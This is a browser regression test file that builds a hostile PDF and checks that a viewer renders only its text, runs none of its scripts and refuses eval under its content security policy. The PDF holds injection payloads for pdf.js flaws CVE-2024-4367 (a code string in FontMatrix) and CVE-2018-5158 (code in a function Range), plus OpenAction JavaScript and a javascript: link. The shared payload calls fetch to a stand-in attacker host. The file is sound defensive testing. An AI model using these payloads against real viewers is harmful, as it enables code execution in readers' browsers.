"""A PDF that tries to run in the page or in the worker that reads it only shows its text."""

from __future__ import annotations

import io

import pikepdf
import pytest
from fontTools.fontBuilder import FontBuilder
from fontTools.pens.ttGlyphPen import TTGlyphPen
from pikepdf import Array, Dictionary, Name, String
from playwright.sync_api import expect

from tests.browser import documents
from tests.browser.conftest import Person
from tests.stack import Integrator

AREA = "PDFs that would run in the viewer"

# Closes what would be compiled around it, and leaves a mark wherever it runs.
_CODE = "globalThis.taken = true; fetch('https://attacker.invalid/'); //"
# CVE-2024-4367: c.transform(1,0,0,1,0,HERE). pdf.js 4.1.392 runs it, in this very document.
MATRIX = f"1); {_CODE}"
_NO_SIZE = "OTS parsing error: head: unitsPerEm"  # what Chromium says of that font
RANGE = f"0; {_CODE}"  # CVE-2018-5158: Math.min(Math.max(v, HERE), 1)


def _outlines() -> bytes:
    """A TrueType font of one glyph, A, that names no size: then the matrix is the dictionary's."""
    pen = TTGlyphPen(None)
    for draw, point in zip(
        (pen.moveTo, pen.lineTo, pen.lineTo), ((0, 0), (500, 0), (250, 700)), strict=True
    ):
        draw(point)
    pen.closePath()
    triangle = pen.glyph()
    glyphs = {".notdef": triangle, "A": triangle}
    builder = FontBuilder(1000)
    builder.setupGlyphOrder(list(glyphs))
    builder.setupCharacterMap({65: "A"})
    builder.setupGlyf(glyphs)
    builder.setupHorizontalMetrics(dict.fromkeys(glyphs, (600, 0)))
    builder.setupHorizontalHeader(ascent=800, descent=-200)
    builder.setupOS2()
    builder.setupPost()
    builder.font["head"].unitsPerEm = 0
    stream = io.BytesIO()
    builder.save(stream)
    return stream.getvalue()


def hostile_pdf() -> bytes:
    """Text in a font whose matrix is code, clipped by so that its outlines are compiled; a shading
    by a PostScript function with code among its bounds; and scripts of the document's own."""
    with pikepdf.new() as document:
        program = document.make_stream(_outlines())
        font = Dictionary(
            Type=Name.Font, Subtype=Name.TrueType, BaseFont=Name.Hostile,
            FirstChar=65, LastChar=65, Widths=Array([600]), Encoding=Name.WinAnsiEncoding,
            FontMatrix=Array([1, 0, 0, 1, 0, String(MATRIX)]),
            FontDescriptor=document.make_indirect(
                Dictionary(
                    Type=Name.FontDescriptor, FontName=Name.Hostile, Flags=32,
                    FontBBox=[0, 0, 1000, 1000], ItalicAngle=0, Ascent=900, Descent=-100,
                    CapHeight=700, StemV=80, FontFile2=program,
                )
            ),
        )  # fmt: skip
        function = document.make_stream(b"{ dup 2 mul exch dup }")
        function.stream_dict = Dictionary(
            FunctionType=4, Domain=Array([0, 1]), Range=Array([String(RANGE), 1, 0, 1, 0, 1])
        )
        plain = Dictionary(
            Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica,
            FontMatrix=Array([0.1, 0, 0, 0.1, 0, String(MATRIX)]),
        )  # fmt: skip
        page = document.add_blank_page(page_size=(600, 800)).obj
        page.Resources = Dictionary(
            Font=Dictionary(F0=font, F1=plain),
            Shading=Dictionary(
                S=Dictionary(
                    ShadingType=2, ColorSpace=Name.DeviceRGB, Coords=Array([0, 0, 600, 0]),
                    Function=document.make_indirect(function),
                )
            ),
        )  # fmt: skip
        page.Contents = document.make_stream(
            b"q 0 0 600 200 re W n /S sh Q q BT 6 Tr /F0 40 Tf 50 500 Td (AAA) Tj ET Q "
            b"BT 2 Tr /F1 40 Tf 50 600 Td (Harbour) Tj ET"
        )
        script = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String(_CODE)))
        document.Root.OpenAction = script
        page.AA = Dictionary(O=script)
        page.Annots = Array(
            [
                Dictionary(
                    Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 600, 800],
                    A=Dictionary(S=Name.URI, URI=String(f"javascript:{_CODE}")),
                )
            ]
        )  # fmt: skip
        stream = io.BytesIO()
        document.save(stream)
        return stream.getvalue()


@pytest.fixture(scope="module")
def identity(integrator: Integrator) -> str:
    documents.pack(integrator, "hostile", hostile_pdf())
    return documents.show_package(integrator, "hostile")


def test_a_hostile_pdf_runs_nothing(person: Person, identity: str) -> None:
    """Nor does it ask anything of another host: `person` sees to that at the end."""
    viewer = person()
    viewer.watch.expect(_NO_SIZE)
    viewer.read(identity, prefix="")
    expect(viewer.sheet(0).locator(".text")).to_contain_text("Harbour")
    viewer.expect_crisp(0)
    viewer.page.wait_for_load_state("networkidle")
    assert viewer.page.evaluate("globalThis.taken") is None
    assert viewer.page.workers
    assert [worker.evaluate("globalThis.taken") for worker in viewer.page.workers] == [
        None for _ in viewer.page.workers
    ]
    assert viewer.page.locator("a[href^='javascript:' i]").count() == 0


# A policy stops words that a timer would compile; what Playwright evaluates itself passes it.
_COMPILE = """() => new Promise((tell) => {
  setTimeout("globalThis.compiled = 'compiled'", 0);
  setTimeout(() => tell(globalThis.compiled ?? "refused"), 50);
})"""


def test_the_page_and_the_worker_refuse_to_compile_words(person: Person, identity: str) -> None:
    """Even a pdf.js that wanted to could not: their policies know no `unsafe-eval`."""
    viewer = person()
    viewer.watch.expect(f"{_NO_SIZE}|unsafe-eval|policy violated: script-src eval")
    viewer.read(identity, prefix="")
    assert viewer.page.evaluate(_COMPILE) == "refused"
    assert {worker.evaluate(_COMPILE) for worker in viewer.page.workers} == {"refused"}
    elsewhere = viewer.page.context.new_page()
    assert elsewhere.evaluate(_COMPILE) == "compiled", "the control: a page without a policy"
